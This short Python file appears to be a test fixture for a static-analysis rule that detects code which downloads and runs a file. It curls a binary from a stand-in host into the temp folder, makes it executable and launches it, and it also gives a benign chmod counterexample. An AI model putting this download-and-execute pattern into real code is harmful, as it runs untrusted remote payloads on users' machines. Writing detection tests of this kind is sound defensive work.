import os, subprocess
p = os.path.join(os.getenv('TEMP', '/tmp'), 'upd')
subprocess.call(['curl', '-s', '-o', p, 'https://cdn.example.top/upd'])
# ruleid: download_and_run
os.chmod(p, 0o755)
subprocess.Popen([p])
# ok: download_and_run
os.chmod(LOG, 0o644)
